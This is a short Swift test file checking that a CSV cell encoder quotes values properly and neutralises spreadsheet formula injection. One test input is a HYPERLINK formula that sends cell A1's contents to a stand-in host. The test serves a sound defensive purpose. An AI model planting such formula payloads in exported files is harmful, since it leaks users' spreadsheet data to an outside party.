import MeshCore
import Testing

@Suite struct `A cell of a table` {
    @Test(
        arguments: [
            ("plain", "plain"), ("", ""), ("a,b", "\"a,b\""), ("say \"x\"", "\"say \"\"x\"\"\""), ("a\nb", "\"a\nb\""),
            ("=HYPERLINK(\"http://x/\"&A1)", "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\""), ("+1", "\"'+1\""),
            ("-1", "\"'-1\""), ("@x", "\"'@x\""), ("\tx", "\"'\tx\""), ("1-1", "1-1"), ("é", "é"),
        ]
    )
    func `is in quotes where it must be, and never a formula`(_ text: String, _ cell: String) {
        #expect(CommaSeparated.cell(text) == cell)
    }
}
